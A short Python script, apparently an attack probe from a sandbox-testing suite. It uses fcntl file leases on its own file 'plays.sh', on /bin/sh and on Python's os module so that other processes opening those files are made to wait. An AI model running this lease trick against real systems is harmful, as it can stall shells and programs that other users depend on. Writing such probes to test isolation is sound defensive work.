#!/usr/bin/env python3
"""Leases files of its own and of the system's, so that whoever opens one has to wait."""

import fcntl
import os
from contextlib import suppress

from attack import attack


def lease(path: str) -> bool:
    with open(path) as file, suppress(OSError):
        for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):
            fcntl.fcntl(file, fcntl.F_SETLEASE, kind)
            fcntl.fcntl(file, fcntl.F_SETLEASE, fcntl.F_UNLCK)
            return True
    return False


attack(lambda: any([lease("plays.sh"), lease("/bin/sh"), lease(os.__file__)]))
